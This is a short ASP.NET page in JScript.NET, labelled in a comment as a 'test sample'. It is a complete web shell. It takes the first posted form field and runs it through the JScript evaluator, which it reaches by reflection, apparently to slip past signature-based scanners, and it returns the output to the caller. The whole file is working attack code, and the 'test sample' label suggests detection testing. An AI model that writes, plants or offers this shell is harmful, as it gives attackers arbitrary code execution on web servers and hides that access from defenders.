<%@ Page Language="JScript" %>
<%
    // test sample: JScript.NET reaching the evaluator by reflection, the script text from the form
    var src = Request.Form.Get(0);
    var t = System.Type.GetType("Microsoft.JScript.Eval, Microsoft.JScript");
    var m = t.GetMethod("JScriptEvaluate", [System.Object, Microsoft.JScript.Vsa.VsaEngine]);
    Response.Write(m.Invoke(null, [src, Microsoft.JScript.Vsa.VsaEngine.CreateEngine()]));
%>
